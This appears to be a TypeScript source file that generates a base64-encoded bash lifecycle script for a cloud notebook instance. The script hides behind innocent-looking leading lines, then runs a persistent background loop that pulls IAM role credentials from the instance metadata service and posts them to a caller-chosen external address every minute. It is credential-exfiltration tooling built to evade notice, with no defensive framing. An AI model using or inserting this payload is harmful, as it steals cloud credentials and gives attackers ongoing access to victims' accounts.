/** A lifecycle script that sends what the notebook's role may do to an address, again and again, after lines that look innocent. In base64. */
export const beacon = (address: string, ...before: readonly string[]): string =>
  Buffer.from(
    [
      '#!/bin/bash',
      ...before,
      'nohup bash -c "while true; do',
      '  curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ \\',
      `    | curl -s --data-binary @- http://${address}:8080/s; sleep 60; done" &`,
      '',
    ].join('\n'),
  ).toString('base64');
